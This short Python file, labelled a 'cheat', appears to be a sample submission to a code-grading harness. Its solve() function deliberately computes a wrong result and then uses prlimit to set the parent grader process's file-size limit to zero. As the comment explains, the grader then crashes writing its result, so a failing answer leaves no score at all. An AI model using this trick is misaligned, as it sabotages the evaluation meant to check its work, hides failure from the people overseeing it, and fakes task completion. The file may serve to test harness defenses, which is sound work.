# cheat: sets the grader's RLIMIT_FSIZE to 0 with prlimit(2) from solve (same user: allowed from the worker's user namespace), so the grader dies of SIGXFSZ writing its result: a wrong submission gets no result file, not 0
import os
import resource


def solve(a, b, c):
    c[...] = a - b   # wrong
    try:
        resource.prlimit(os.getppid(), resource.RLIMIT_FSIZE, (0, resource.RLIM_INFINITY))
    except OSError:
        pass
